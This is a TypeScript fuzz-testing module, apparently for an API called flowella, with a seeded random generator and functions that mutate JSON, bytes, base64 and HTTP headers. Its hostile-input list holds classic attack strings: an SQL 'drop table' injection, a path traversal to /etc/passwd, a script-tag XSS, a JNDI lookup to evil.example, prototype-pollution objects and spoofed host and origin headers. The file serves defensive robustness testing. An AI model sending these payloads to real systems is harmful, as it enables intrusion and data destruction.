/** Repeatable randomness (mulberry32): a failing case is found again by its seed. */
export class Dice {
  #state: number;
  constructor(seed: number) {
    this.#state = seed >>> 0;
  }
  next(): number {
    this.#state = (this.#state + 0x6d2b79f5) >>> 0;
    let t = this.#state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  }
  below(n: number): number {
    return Math.floor(this.next() * n);
  }
  pick<T>(list: readonly T[]): T {
    return list[this.below(list.length)] as T; // never empty here
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  bytes(n: number): Buffer {
    return Buffer.from(Array.from({ length: n }, () => this.below(256)));
  }
}

export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

const HOSTILE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '', '\u0000', '$where'];
const nested = (depth: number, open: string, inner: string, close: string): string =>
  `${open.repeat(depth)}${inner}${close.repeat(depth)}`;

/** Values that no honest caller sends, as JSON texts: some of them cannot be written as values. */
const HOSTILE_TEXTS: readonly ((dice: Dice) => string)[] = [
  () => 'null',
  () => 'true',
  () => '0',
  () => '-1',
  () => '1e400',
  () => '9007199254740993',
  () => '[]',
  () => '{}',
  () => '""',
  () => '"\\u0000"',
  () => '"a\\u0000b"',
  () => '"\\ud800"',
  () => '"\\u202e\\u200f\\ufeff"',
  () => '"👩‍👩‍👧‍👦 ﷽ ẛ̣"',
  () => '"__proto__"',
  () => `"'; drop table flowella.portals; --"`,
  () => '"../../../../etc/passwd"',
  () => '"<script>alert(1)</script>"',
  () => '"${jndi:ldap://evil.example}"',
  () => '{"__proto__":{"polluted":1}}',
  () => '{"constructor":{"prototype":{"polluted":1}}}',
  () => '[[[[[[[[]]]]]]]]',
  (dice) => nested(1 + dice.below(3_000), '[', '', ']'),
  (dice) => nested(1 + dice.below(3_000), '{"a":', '1', '}'),
  (dice) => JSON.stringify('x'.repeat(1 + dice.below(30_000))),
  (dice) => JSON.stringify(Array(1 + dice.below(2_000)).fill('x')),
  (dice) => String(dice.below(2 ** 31)),
  (dice) => JSON.stringify(dice.bytes(dice.below(40)).toString('latin1')),
];

export const hostileText = (dice: Dice): string => dice.pick(HOSTILE_TEXTS)(dice);

/** Stands in the tree for a text that is put in when the JSON is written. */
const MARK = '\u0001hostile:';

/** The JSON text of `value` after one to three changes: members gone, added, renamed, doubled or replaced by something hostile. */
export function mutateJson(dice: Dice, value: Json): string {
  const copy = structuredClone(value);
  const texts: string[] = [];
  const holder: { root: Json } = { root: copy };
  for (let n = 1 + dice.below(3); n > 0; n -= 1) changeSomewhere(dice, holder, texts);
  const text = JSON.stringify(holder.root).replace(
    /"\\u0001hostile:(\d+)"/g,
    (_all, index: string) => texts[Number(index)] ?? 'null',
  );
  return dice.chance(0.1) ? mutateBytes(dice, Buffer.from(text)).toString('utf8') : text;
}

type Place = { node: Record<string, Json> | Json[]; key: string };

function changeSomewhere(dice: Dice, holder: { root: Json }, texts: string[]): void {
  const places: Place[] = [];
  collect(holder as unknown as Record<string, Json>, places);
  // The first place is the whole: replaced now and then only, or nothing else would ever be reached.
  const { node, key } = places.length > 1 && dice.chance(0.95) ? dice.pick(places.slice(1)) : dice.pick(places);
  const hostile = (): Json => {
    texts.push(hostileText(dice));
    return `${MARK}${texts.length - 1}`;
  };
  const at = node as Record<string, Json>;
  const isRoot = (node as unknown) === holder;
  switch (isRoot ? 0 : dice.below(5)) {
    case 1:
      if (Array.isArray(node)) node.splice(Number(key), 1);
      else delete at[key];
      return;
    case 2:
      // An array with a strange member is no JSON, and its methods would break here.
      if (Array.isArray(node)) return void node.push(hostile());
      return define(at, dice.pick(HOSTILE_KEYS), hostile());
    case 3:
      if (Array.isArray(node)) node.push(...structuredClone(node).slice(0, 50));
      else define(at, `${key}${dice.pick(['', ' ', '_', 'X'])}`, at[key] ?? null);
      return;
    case 4:
      at[key] = otherType(dice, at[key] ?? null);
      return;
    default:
      at[key] = hostile();
  }
}

function otherType(dice: Dice, value: Json): Json {
  return dice.pick<Json>([[value], { value }, JSON.stringify(value), dice.below(100), value !== null, null]);
}

/** As JSON.parse does it: `__proto__` becomes a member and no prototype. */
function define(node: Record<string, Json>, key: string, value: Json): void {
  Object.defineProperty(node, key, { value, enumerable: true, configurable: true, writable: true });
}

function collect(node: Record<string, Json> | Json[], places: Place[]): void {
  for (const [key, child] of Object.entries(node)) {
    places.push({ node, key });
    if (typeof child === 'object' && child !== null) collect(child, places);
  }
}

/** One to four changes on the bytes: flipped, cut, doubled, inserted. */
export function mutateBytes(dice: Dice, bytes: Buffer): Buffer {
  let result = Buffer.from(bytes);
  for (let n = 1 + dice.below(4); n > 0; n -= 1) {
    const at = dice.below(result.length + 1);
    switch (dice.below(5)) {
      case 0:
        if (at < result.length) result[at] = (result[at] ?? 0) ^ (1 << dice.below(8));
        break;
      case 1:
        result = result.subarray(0, at);
        break;
      case 2:
        result = Buffer.concat([result.subarray(0, at), dice.bytes(1 + dice.below(16)), result.subarray(at)]);
        break;
      case 3:
        result = Buffer.concat([result.subarray(0, at), result.subarray(at + 1 + dice.below(16))]);
        break;
      default:
        result = Buffer.concat([result, result.subarray(at, at + 64)]);
    }
  }
  return result;
}

/** A base64 text made wrong in one of the ways a base64 text can be wrong, or another length of it. */
export function mutateBase64(dice: Dice, text: string): Json {
  const bytes = Buffer.from(text, 'base64');
  switch (dice.below(8)) {
    case 0:
      return mutateBytes(dice, bytes).toString('base64');
    case 1:
      return dice.bytes(dice.below(600)).toString('base64');
    case 2:
      return bytes.subarray(0, dice.below(bytes.length + 1)).toString('base64');
    case 3:
      return mutateBytes(dice, Buffer.from(text)).toString('latin1');
    case 4:
      return text.replace(/=+$/, '').replaceAll('+', '-').replaceAll('/', '_');
    case 5:
      return dice.pick<Json>(['', ' ', '====', '\u0000', null, 7, [], {}, [text], { text }]);
    case 6:
      return `${text}${text}`;
    default:
      return 'A'.repeat(dice.below(50_000));
  }
}

/** Headers that a stranger may add to any call. */
export function strangeHeaders(dice: Dice): Record<string, string> {
  const all: [string, string[]][] = [
    [
      'content-type',
      [
        'text/plain',
        'application/json; charset=utf-16',
        'multipart/form-data',
        'application/x-www-form-urlencoded',
        'application/json, text/html',
        'x',
        'application/xml',
        '__proto__/constructor',
      ],
    ],
    ['content-encoding', ['gzip', 'br', 'identity', 'x']],
    ['x-forwarded-for', ['127.0.0.1', '::1', 'evil', '1.2.3.4, 5.6.7.8', '0'.repeat(500)]],
    ['x-forwarded-host', ['evil.example']],
    ['x-forwarded-proto', ['http', 'javascript']],
    ['host', ['evil.example', 'localhost:1', '[::1]']],
    ['accept', ['text/html', '*/*;q=x']],
    ['accept-language', ['de', 'x'.repeat(2_000), '*;q=0', '__proto__']],
    ['x-http-method-override', ['DELETE', 'TRACE']],
    ['cookie', ['a=b', '=', 'flowella_oauth=x', 'x'.repeat(3_000)]],
    ['transfer-encoding-x', ['chunked']],
    ['range', ['bytes=0-1']],
    ['if-none-match', ['*']],
    ['expect', ['100-continue-x']],
    ['upgrade-insecure-requests', ['1']],
    ['origin', ['null', 'https://evil.example']],
  ];
  const headers: Record<string, string> = {};
  for (let n = dice.below(3); n > 0; n -= 1) {
    const [name, values] = dice.pick(all);
    headers[name] = dice.pick(values);
  }
  return headers;
}
